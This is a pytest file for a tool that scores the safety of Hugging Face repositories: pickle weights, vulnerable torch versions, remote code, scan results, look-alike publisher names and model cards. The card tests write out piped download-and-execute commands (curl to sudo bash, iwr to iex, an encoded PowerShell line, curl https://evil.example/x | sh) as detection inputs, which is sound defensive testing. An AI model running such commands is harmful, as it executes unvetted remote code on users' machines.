"""Single signals and caps of a repository."""

from __future__ import annotations

from typing import Any, Final

import msgspec
import pytest

from nerq_cli.facts import Found, Unknown
from nerq_cli.hub_facts import CardMetadata, HubCard, HubEvidence, HubFile, HubOwner, HubScan
from nerq_cli.signals.models.files import find_weights
from nerq_cli.signals.models.loaders import read_loaders
from nerq_cli.signals.models.names import (
    ORGANISATIONS,
    REPOSITORIES,
    find_copied_repository,
    find_similar_organisation,
)
from nerq_cli.units import DAY
from tests.signals.models.conftest import (
    CARD,
    HEADER,
    HEALTHY,
    NOW,
    PERSON,
    PICKLE,
    REPOSITORY,
    SAFETENSORS,
    SHA,
    caps,
    change,
    found,
    measure,
    possible_caps,
    score,
    signal,
    use,
)

replace = msgspec.structs.replace


@pytest.mark.parametrize(
    ("paths", "words", "level"),
    [
        ("model.safetensors", "", "safetensors"),
        ("model.Q4.gguf", "", "gguf"),
        ("model.onnx", "", "exported"),
        ("tf_model.h5", "", "keras"),
        ("a/saved_model.pb", "", "keras"),
        ("pytorch_model.bin", "", "pickle"),
        ("model.onnx pytorch_model.bin", "", "pickle"),
        ("model.safetensors pytorch_model.bin", "", "twins"),
        ("model.safetensors training_args.bin", "", "twins"),
        ("training_args.bin", "", ""),
        ("model.gguf checkpoint-5/optimizer.pt", "", "twins"),
        ("original/consolidated.00.pth model.safetensors", "", "twins"),
        ("model_index.json unet/model.safetensors vae/model.bin", "", "pickle"),
        ("model_index.json unet/model.safetensors unet/model.bin", "", "twins"),
        ("modules.json model.safetensors 2_Dense/pytorch_model.bin", "", "pickle"),
        ("model.bin vocabulary.txt", "ctranslate2", "exported"),
        ("openvino_model.bin openvino_model.xml", "", "exported"),
        ("openvino_model.bin", "openvino", "exported"),
        ("lid.176.bin", "fasttext", "exported"),
        ("pytorch_model.bin", "ctranslate2 openvino fasttext ggml whisper.cpp", "pickle"),
        ("pytorch_model.bin pytorch_model.xml", "", "pickle"),
        ("x.mlpackage/pytorch_model.bin", "", "pickle"),
        ("pytorch_model-00001-of-00002.bin", "openvino", "pickle"),
        ("pytorch_model.fp16.bin", "openvino", "pickle"),
        ("adapter_model.bin", "fasttext", "pickle"),
        ("diffusion_pytorch_model.bin diffusion_pytorch_model.xml", "", "pickle"),
        ("pytorch_lora_weights.bin", "ggml", "pickle"),
        ("open_clip_pytorch_model.bin", "ggml", "pickle"),
        ("model.bin optimizer.bin", "ctranslate2", "twins"),
        ("ggml-base.bin", "", "gguf"),
        ("README.md config.json", "", ""),
    ],
)
def test_the_format_is_that_of_the_files_which_a_loader_chooses(paths: str, words: str, level: str) -> None:
    assert find_weights([HubFile(path) for path in paths.split()], words.split()).level == level


@pytest.mark.parametrize(
    ("paths", "level"),
    [
        ("model.safetensors pytorch_model.bin", "pickle"),
        ("model_index.json unet/model.safetensors unet/model.bin", "pickle"),
        ("model.safetensors training_args.bin", "twins"),
        ("model.safetensors", "safetensors"),
    ],
)
def test_a_loader_that_refuses_safetensors_chooses_the_pickle_file(paths: str, level: str) -> None:
    assert find_weights([HubFile(path) for path in paths.split()], refuses_safetensors=True).level == level


def test_the_reason_names_the_refusal_of_safetensors() -> None:
    files = (HubFile("model.safetensors"), HubFile("pytorch_model.bin"))
    evidence = change(files=files)
    assert "use_safetensors=False" not in signal(evidence, "weight_format").reason
    assert (
        "which use_safetensors=False refuses" in signal(use(evidence, refuses_safetensors=True), "weight_format").reason
    )


def test_the_lowest_pinned_version_decides() -> None:
    loaders = read_loaders([("Torch", "2.9.0"), ("torch", "2.5.1+cu124"), ("numpy", "1"), ("datasets", "x")])
    assert loaders.torch is not None
    assert loaders.torch.version == "2.5.1+cu124"
    assert loaders.datasets is None
    assert "CVE-2025-32434" in loaders.pickle_danger
    assert not read_loaders([("torch", "2.6.0")]).pickle_danger
    assert "CVE-2026-24747" in read_loaders([("torch", "2.9.1")]).pickle_doubt
    assert not read_loaders([("torch", "2.10.0")]).pickle_doubt


@pytest.mark.parametrize(
    ("libraries", "is_capped"),
    [
        ((), False),
        ((("torch", "2.5.1"),), True),
        ((("torch", "2.5.1"), ("transformers", "4.51.3")), True),
        ((("torch", "2.5.1"), ("transformers", "4.52.0")), False),
        ((("torch", "2.6.0"),), False),
    ],
)
def test_a_pinned_torch_that_runs_code_in_pickle_files_caps(
    libraries: tuple[tuple[str, str], ...], *, is_capped: bool
) -> None:
    evidence = use(change(files=PICKLE), revision=SHA, libraries=libraries)
    assert ("pickle-loader" in caps(evidence)) == is_capped
    assert "pickle-loader" not in caps(use(HEALTHY, revision=SHA, libraries=libraries))


@pytest.mark.parametrize(
    ("version", "trusts", "certain", "possible"),
    [
        ("2.15.0", False, True, False),
        ("2.19.2", None, True, False),
        ("2.20.0", True, True, False),
        ("2.20.0", None, False, True),
        ("3.6.0", False, False, False),
        ("4.0.0", True, False, False),
    ],
)
def test_a_loading_script_runs_with_some_versions_of_datasets(
    version: str, *, trusts: bool | None, certain: bool, possible: bool
) -> None:
    script = change(kind="dataset", id="acme/texts", files=(HubFile("texts.py"), HubFile("a.parquet")))
    evidence = use(script, trusts_remote_code=trusts, libraries=(("datasets", version),))
    assert ("remote-code" in caps(evidence), "remote-code" in possible_caps(evidence)) == (certain, possible)
    assert not caps(use(script, revision=SHA, trusts_remote_code=True, libraries=(("datasets", version),)))


def test_remote_code_caps_only_what_is_trusted_and_not_pinned() -> None:
    code = change(auto_map=True)
    assert caps(use(code, trusts_remote_code=True)) == {"remote-code"}
    assert caps(use(code, trusts_remote_code=True, revision="v1.0")) == {"remote-code"}
    assert caps(use(code, trusts_remote_code=True, revision=SHA)) == set()
    assert possible_caps(use(code)) == {"remote-code"}
    assert caps(use(code, trusts_remote_code=False)) | possible_caps(use(code, trusts_remote_code=False)) == set()
    assert signal(code, "remote_code").value == 40
    assert signal(change(auto_map=None), "remote_code").state == "unknown"
    assert signal(change(files=(*SAFETENSORS, HubFile("install.ps1"))), "remote_code").value == 20


@pytest.mark.parametrize(("revision", "value"), [("", 40), ("main", 40), ("v1.0", 60), (SHA, 100), (SHA[:12], 60)])
def test_only_a_whole_commit_is_pinned(revision: str, value: float) -> None:
    assert signal(use(HEALTHY, revision=revision), "pinning").value == value


def test_scans_that_are_not_done_are_never_clean() -> None:
    for evidence in (change(scans_done=False), change(scans_done=None), change(scans=(HubScan("x", "queued"),))):
        assert signal(evidence, "file_scan").state == "unknown"
    assert signal(change(scans=(HubScan("x", "dubious"),)), "file_scan").value == 40
    assert signal(change(scans_done=False, scans=(HubScan("x", "unsafe"),)), "file_scan").value == 0
    unread = change(scan_problem="the answer has no list of files with issues")
    assert signal(unread, "file_scan").state == "unknown"
    unread = change(unread, scans=(HubScan("x", "unsafe"),))
    assert (signal(unread, "file_scan").value, caps(unread)) == (0, {"unsafe"})


@pytest.mark.parametrize("level", ["frobnicated", "not stated"])
def test_a_level_that_is_not_listed_is_shown_and_never_verified(level: str) -> None:
    evidence = change(scans=(HubScan("model.safetensors", level),))
    assert signal(evidence, "file_scan").value == 40
    result = score(evidence)
    assert result.value is not None
    assert (result.is_verified, result.provisional, result.grade, result.low) == (False, True, None, 10)
    assert result.doubts == (f"model.safetensors is reported as {level!r}, a level that is not listed",)
    assert possible_caps(change(evidence, files=PICKLE)) == {"unsafe"}
    twin = change(files=(*SAFETENSORS, HubFile("pytorch_model.bin")), scans=(HubScan("pytorch_model.bin", level),))
    assert possible_caps(twin) == {"unsafe-twin"}
    assert possible_caps(scan_files(scans=(HubScan("a.py", level),))) == {"unsafe"}
    for known in ("caution", "suspicious"):
        assert possible_caps(change(scans=(HubScan("model.safetensors", known),))) == set()


@pytest.mark.parametrize(
    ("fields", "is_possible"),
    [
        ({}, False),
        ({"scans": (HubScan("model.safetensors", "frobnicated"),)}, True),
        ({"scans": (HubScan("model.safetensors", "queued"),)}, True),
        ({"scan_problem": "the answer has no list of files with issues"}, True),
        ({"scans_done": False}, True),
    ],
)
def test_the_scans_of_what_it_loads_may_leave_doubts(fields: dict[str, Any], *, is_possible: bool) -> None:
    card = replace(HEADER, base_models=("acme/base",), base_model_relation="adapter")
    evidence = replace(change(card=card), bases={"acme/base": found(replace(REPOSITORY, **fields))})
    assert (possible_caps(evidence) == {"unsafe-part"}) == is_possible
    assert not caps(evidence)


@pytest.mark.parametrize(
    ("stage", "value"),
    [
        ("RUNNING", 100),
        ("SLEEPING", 100),
        ("RUNNING_APP_STARTING", 100),
        ("RUNTIME_ERROR", 30),
        ("NO_APP_FILE", 30),
        ("WIBBLE", None),
        ("", None),
    ],
)
def test_a_stage_of_a_space_that_is_not_listed_is_unknown(stage: str, value: float | None) -> None:
    assert signal(change(kind="space", stage=stage), "status").value == value


def scan_files(**fields: Any) -> HubEvidence:
    """Return a dataset whose scan results were requested by file."""
    return change(kind="dataset", **{"scans_done": True, "scanned_files": 3, **fields})


def test_scans_of_single_files_are_known_if_all_that_may_hold_code_are_done() -> None:
    assert signal(scan_files(), "file_scan").value == 100
    assert signal(scan_files(scans=(HubScan("a.py", "caution"),)), "file_scan").value == 60
    pending = (HubScan("a.py", "queued"), HubScan("b.py", "caution"))
    for fields, reason in (
        ({"unscanned_files": 2}, "scans of 3 files that may hold code: 2 not read"),
        ({"unscanned_files": 1, "scans": pending[:1]}, "1 not read, 1 not done; so far a.py not scanned"),
        ({"scans_done": None, "scan_problem": "HTTP 500"}, "scan results not read: HTTP 500"),
        ({"scans_done": None, "files": None}, "files not listed"),
    ):
        result = signal(scan_files(**fields), "file_scan")
        assert result.state == "unknown"
        assert reason in result.reason
    unsafe = scan_files(unscanned_files=1, scans=(*pending, HubScan("c.py", "unsafe")))
    assert signal(unsafe, "file_scan").value == 0
    assert caps(unsafe) == {"unsafe"}


def test_without_a_file_that_may_hold_code_there_is_nothing_to_scan() -> None:
    result = signal(scan_files(scanned_files=0), "file_scan")
    assert (result.state, result.reason) == ("not_applicable", "no file that may hold code")
    assert score(scan_files(scanned_files=0)).has_required_signal
    assert not score(scan_files(scanned_files=0, scans_done=None)).has_required_signal


def test_an_adapter_is_known_from_the_tags_of_the_hub() -> None:
    adapter = change(card=HEADER, verified_bases=("acme/base",), verified_relation="adapter")
    assert possible_caps(adapter) == {"unsafe-part"}


def test_a_virus_counts_before_an_unsafe_file() -> None:
    assert caps(change(scans=(HubScan("a", "unsafe"), HubScan("z", "unsafe", virus=True)))) == {"virus"}


def test_what_an_adapter_or_a_space_loads_caps_it() -> None:
    reported = found(replace(REPOSITORY, files=PICKLE, scans=(HubScan("pytorch_model.bin", "unsafe"),)))
    card = replace(HEADER, base_models=("acme/base",), base_model_relation="adapter")
    assert caps(replace(change(card=card), bases={"acme/base": reported})) == {"unsafe-part"}
    assert possible_caps(change(card=card)) == {"unsafe-part"}
    unread = replace(change(card=card), bases={"acme/base": Unknown("the Hub answers 500")})
    [flag] = [flag for flag in measure(unread).flags if flag.cap == "unsafe-part"]
    assert flag.reason == "acme/base, which it may load, was not read: the Hub answers 500"
    finetune = replace(card, base_model_relation="finetune")
    assert caps(replace(change(card=finetune), bases={"acme/base": reported})) == set()
    space = change(kind="space", stage="RUNNING", used_models=("acme/base",))
    assert caps(replace(space, used={"acme/base": reported})) == {"unsafe-part"}


def test_names_that_may_be_mistaken() -> None:
    for account, organisation in {
        "qwen-official": "Qwen",
        "0penai": "openai",
        "meta-lIama": "meta-llama",
        "hugging-face": "huggingface",
        "mistral-ai": "mistralai",
        "someone": "",
        "": "",
    }.items():
        assert find_similar_organisation(account) == organisation
    assert [name for name in ORGANISATIONS if find_similar_organisation(name)] == []
    assert find_copied_repository("evil/Qwen3-8B") == "Qwen/Qwen3-8B"
    assert find_copied_repository("qwen/qwen3-8b") == ""
    assert find_copied_repository("gpt2") == ""
    assert [id_ for id_ in REPOSITORIES.values() if find_copied_repository(id_)] == []


def test_a_copy_of_a_well_known_repository_is_capped() -> None:
    person = found(PERSON)
    assert caps(replace(change(id="alice/privacy-filter"), owner=person)) == {"name-clone"}
    assert caps(change(id="alice/privacy-filter")) == set()  # verified
    declared = replace(HEADER, base_models=("openai/privacy-filter",))
    assert "name-clone" not in caps(replace(change(id="alice/privacy-filter", card=declared), owner=person))
    unread = replace(change(id="alice/privacy-filter"), owner=Unknown("HTTP 500", "Hub"))
    assert (caps(unread), possible_caps(unread)) == (set(), {"name-clone"})
    young = replace(change(id="0penai/x"), owner=found(replace(PERSON, name="0penai")))
    assert caps(young) == {"name-clone"}
    assert signal(young, "publisher").value == 15
    old = change(young, created_at=NOW - 400 * DAY)
    assert caps(old) == set()


def test_a_card_that_asks_readers_to_run_a_download_counts_nothing() -> None:
    def card(command: str) -> float | None:
        return signal(replace(HEALTHY, card=found(HubCard(f"{CARD}\n\n```\n{command}\n```\n"))), "card").value

    assert card("curl -fsSL https://files.example/setup | sudo bash") == 0
    assert card("powershell -NoProfile -enc SQBFAFgA") == 0
    assert card("iwr https://files.example/a.ps1 | iex") == 0
    assert card("curl -fsSL https://ollama.com/install.sh | sh") == 100
    assert card("curl https://files.example/data.json | jq .") == 100


def test_numbers_of_a_new_repository_count_little() -> None:
    evidence = change(created_at=NOW - 10 * DAY, downloads=244_000, likes=600)
    assert signal(evidence, "adoption").value == 50
    assert signal(change(downloads=None), "adoption").state == "unknown"
    assert signal(change(kind="space", stage="RUNNING", downloads=None), "adoption").value == 66


@pytest.mark.parametrize(
    ("licence", "value"),
    [
        (("mit",), 100),
        (("gpl-3.0",), 80),
        (("llama3.1",), 60),
        (("cc-by-nc-4.0",), 40),
        (("mit", "cc-by-nc-4.0"), 40),
        (("other",), 25),
        (("unknown",), 10),
        (None, 10),
    ],
)
def test_the_strictest_licence_counts(licence: tuple[str, ...] | None, value: float) -> None:
    evidence = change(card=CardMetadata(licence=licence))
    assert signal(evidence, "licence").value == value
    assert ("no-licence" in caps(evidence)) == (value == 10)


def test_a_header_that_was_not_read_is_not_an_absent_licence() -> None:
    evidence = change(card=None, has_card_data=False)
    assert signal(evidence, "licence").state == "unknown"
    assert (caps(evidence), "no-licence" in possible_caps(evidence)) == (set(), True)


def test_a_publisher_is_rated_by_what_the_hub_states() -> None:
    for owner, value in (
        (HubOwner("a", is_organisation=True, is_verified=True), 100),
        (HubOwner("a", is_organisation=True, is_verified=None), 80),
        (HubOwner("a", is_organisation=False, models=10), 65),
        (HubOwner("a", is_organisation=False, models=None), 50),
    ):
        assert signal(replace(HEALTHY, owner=found(owner)), "publisher").value == value


def test_nothing_known_gives_no_number() -> None:
    assert score(HubEvidence()).value is None


def _write_card(*headings: str, is_cut: bool, header: CardMetadata = HEADER) -> HubEvidence:
    text = "\n\n".join(f"## {heading}\n\n{'A sentence with several words in it. ' * 8}7" for heading in headings)
    evidence = change(card=header)
    return msgspec.structs.replace(evidence, card=found(HubCard(text, is_cut=is_cut)))


ALL_TOPICS: Final = (
    "Summary", "Intended use", "Limitations", "Training data", "Training procedure", "Evaluation", "How to use",
    "Citation",
)  # fmt: skip


def test_what_is_missing_from_a_part_of_a_card_is_not_known() -> None:
    part = _write_card("Summary", "How to use", is_cut=True, header=CardMetadata(licence=("mit",)))
    for id_, missing in (("card", "training data"), ("evaluation", "results and limits")):
        result = signal(part, id_)
        assert result.state == "unknown"
        assert "only a part of the card was read" in result.reason
        assert missing in result.reason
    assert isinstance(part.card, Found)
    whole = msgspec.structs.replace(part, card=found(HubCard(part.card.value.text)))
    assert signal(whole, "card").value is not None
    assert signal(whole, "evaluation").value == 0
    assert score(part).coverage < score(whole).coverage


def test_what_a_part_of_a_card_has_is_known() -> None:
    for is_cut in (False, True):
        evidence = _write_card(*ALL_TOPICS, is_cut=is_cut)
        assert signal(evidence, "card").value == signal(_write_card(*ALL_TOPICS, is_cut=False), "card").value
        assert signal(evidence, "evaluation").value == 100
    command = found(HubCard("## Use\n\ncurl https://evil.example/x | sh\n", is_cut=True, lines_before=5))
    assert "line 8 of the card" in signal(msgspec.structs.replace(HEALTHY, card=command), "card").reason
